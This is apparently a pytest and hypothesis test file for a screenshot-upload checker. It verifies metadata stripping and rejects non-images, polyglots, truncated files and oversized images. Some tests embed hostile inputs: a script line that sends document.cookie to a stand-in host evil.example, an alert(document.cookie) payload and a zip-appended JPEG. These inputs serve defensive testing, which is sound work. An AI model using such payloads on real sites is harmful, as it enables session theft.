"""The screenshot checks: a real JPEG, PNG or WebP is re-encoded without its metadata; anything else is refused
with a clear code before anything is stored."""

import io
import struct

import pytest
from hypothesis import HealthCheck, example, given, settings
from PIL import Image, PngImagePlugin
from pinbid_kit.errors import Invalid
from pinbid_social.screenshots import MAX_BYTES, BodyTooLarge, check

from ..broken_inputs import (
    ACCEPTED_WITH_JUNK_METADATA,
    JPEG_SECOND_EOI,
    PNG_BAD_EXIF,
    PNG_SHORT_ICCP,
    PNG_TWO_IENDS,
    POLYGLOTS,
    WEBP_BAD_EXIF,
    WEBP_TOO_WIDE_TO_REENCODE,
    broken_images,
    png_claiming,
)


def image_bytes(kind: str = "PNG", size=(64, 40), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 90)).save(out, kind, **save)
    return out.getvalue()


def refused(data: bytes) -> Invalid:
    with pytest.raises(Invalid) as caught:
        check(data)
    return caught.value


@pytest.mark.parametrize("kind,content_type", [("PNG", "image/png"), ("JPEG", "image/jpeg"),
                                               ("WEBP", "image/webp")])
def test_a_real_image_is_reencoded_in_its_own_format(kind, content_type):
    shot = check(image_bytes(kind))
    assert (shot.content_type, shot.width, shot.height) == (content_type, 64, 40)
    again = Image.open(io.BytesIO(shot.data))
    assert again.format == kind and again.size == (64, 40)


def test_metadata_is_stripped_exif_and_text_chunks():
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"  # Make
    exif[0x0131] = "GPS-Tagger 1.0"  # Software
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(out, "JPEG", exif=exif.tobytes())
    assert b"SecretPhone" in out.getvalue()
    shot = check(out.getvalue())
    assert b"SecretPhone" not in shot.data and not Image.open(io.BytesIO(shot.data)).getexif()

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Maya at 51.5N 0.1W")
    png = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(png, "PNG", pnginfo=info)
    cleaned = check(png.getvalue()).data
    assert b"Maya at" not in cleaned and Image.open(io.BytesIO(cleaned)).info.get("Author") is None


def test_a_text_file_named_png_is_not_an_image():
    problem = refused(b"just some words, saved as screenshot.png\n" * 10)
    assert problem.code == "not_an_image" and problem.status == 422


def test_a_gif_or_bmp_is_refused_whatever_it_is_called():
    for kind in ("GIF", "BMP"):
        assert refused(image_bytes(kind)).code == "not_an_image"


def test_a_png_with_a_script_appended_is_refused():
    problem = refused(image_bytes("PNG") + b"<script>alert(document.cookie)</script>")
    assert problem.code == "not_an_image" and "besides the image" in problem.detail


def test_a_png_with_a_script_inside_a_text_chunk_is_refused():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>fetch('//evil.example/'+document.cookie)</script>")
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "PNG", pnginfo=info)
    assert refused(out.getvalue()).code == "not_an_image"


def test_a_jpeg_with_bytes_after_its_end_is_refused():
    assert refused(image_bytes("JPEG") + b"PK\x03\x04 a zip file rides along").code == "not_an_image"


def test_a_truncated_image_is_refused():
    whole = image_bytes("PNG", size=(300, 300))
    assert refused(whole[: len(whole) // 2]).code == "not_an_image"
    jpeg = image_bytes("JPEG", size=(300, 300))
    assert refused(jpeg[: len(jpeg) // 2]).code == "not_an_image"


def test_an_image_over_40_megapixels_is_refused_before_decoding():
    problem = refused(png_claiming(8000, 5001))
    assert problem.code == "image_too_large" and "40 megapixels" in problem.detail
    assert refused(png_claiming(100_000, 100_000)).code == "image_too_large"
    assert check(image_bytes("PNG", size=(8000, 5000))).width == 8000  # exactly 40 megapixels is allowed


def test_more_than_5_mb_is_refused_with_413():
    with pytest.raises(BodyTooLarge) as caught:
        check(b"\x89PNG" + b"\0" * MAX_BYTES)
    assert caught.value.status == 413


def test_icc_profiles_and_webp_exif_are_stripped_too():
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for kind in ("PNG", "JPEG", "WEBP"):
        exif = Image.Exif()
        exif[0x010F] = "SecretPhone"
        out = io.BytesIO()
        Image.new("RGB", (24, 24), "white").save(out, kind, icc_profile=icc, exif=exif.tobytes())
        assert Image.open(io.BytesIO(out.getvalue())).info.get("icc_profile")
        cleaned = Image.open(io.BytesIO(check(out.getvalue()).data))
        assert not cleaned.info.get("icc_profile") and not cleaned.getexif(), kind


def test_an_image_turned_by_its_exif_is_stored_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "white").save(out, "JPEG", exif=exif.tobytes())
    shot = check(out.getvalue())
    assert Image.open(io.BytesIO(shot.data)).size == (20, 40) == (shot.width, shot.height)


# --- malformed metadata, second end markers, and a fuzz of the whole check (issue 30) ---------------------------


@pytest.mark.parametrize("name", sorted(ACCEPTED_WITH_JUNK_METADATA))
def test_a_fine_image_with_malformed_exif_is_accepted_and_stored_without_it(name):
    data = ACCEPTED_WITH_JUNK_METADATA[name]
    shot = check(data)  # the pixels decode: unreadable metadata counts as none (it answered 500 before)
    again = Image.open(io.BytesIO(shot.data))
    assert (again.size, shot.width, shot.height) == ((24, 16), 24, 16)
    assert not again.getexif() and b"garbage" not in shot.data


@pytest.mark.parametrize("name", sorted(POLYGLOTS))
def test_a_second_end_marker_is_refused_as_the_first_is(name):
    problem = refused(POLYGLOTS[name])
    assert problem.code == "not_an_image" and "besides the image" in problem.detail


def test_an_exif_thumbnail_with_its_own_end_marker_is_part_of_the_image():
    """A camera's JPEG carries a small JPEG (with its own EOI) inside its EXIF segment: the segment's length steps
    over it, so the real end is the outer EOI."""
    thumb = image_bytes("JPEG", size=(8, 8))
    payload = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00" + thumb
    main = image_bytes("JPEG")
    with_thumb = main[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + main[2:]
    assert check(with_thumb).width == 64
    assert check(main + b"\x00\x00\x00").width == 64  # zero padding after EOI, as some cameras write, is no file


@pytest.mark.parametrize("kind,save", [("JPEG", {"progressive": True}), ("JPEG", {"restart_marker_blocks": 1}),
                                       ("WEBP", {"lossless": True}), ("PNG", {"optimize": True})])
def test_the_end_marker_walk_accepts_each_encoders_layout(kind, save):
    out = io.BytesIO()
    Image.effect_mandelbrot((120, 80), (-2, -1, 1, 1), 40).convert("RGB").save(out, kind, **save)
    assert check(out.getvalue()).width == 120


FUZZ_CASES = 300


@settings(max_examples=FUZZ_CASES, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(broken_images())
@example(PNG_BAD_EXIF)
@example(WEBP_BAD_EXIF)
@example(PNG_TWO_IENDS)
@example(JPEG_SECOND_EOI)
@example(png_claiming(100_000, 100_000))
@example(PNG_SHORT_ICCP)
@example(WEBP_TOO_WIDE_TO_REENCODE)
def test_any_broken_image_is_refused_with_a_clear_422_or_reencoded_clean(data):
    """Whatever the bytes, the check answers a clean re-encoded image or a 4xx with a code and words for people;
    never another exception (a 500)."""
    try:
        shot = check(data)
    except Invalid as problem:
        assert problem.status == 422 and problem.code in {"not_an_image", "image_too_large"}
        assert problem.detail.endswith(".") and len(problem.detail) > 20
        return
    again = Image.open(io.BytesIO(shot.data))
    again.load()
    assert again.size == (shot.width, shot.height) and not again.getexif() and not again.info.get("icc_profile")
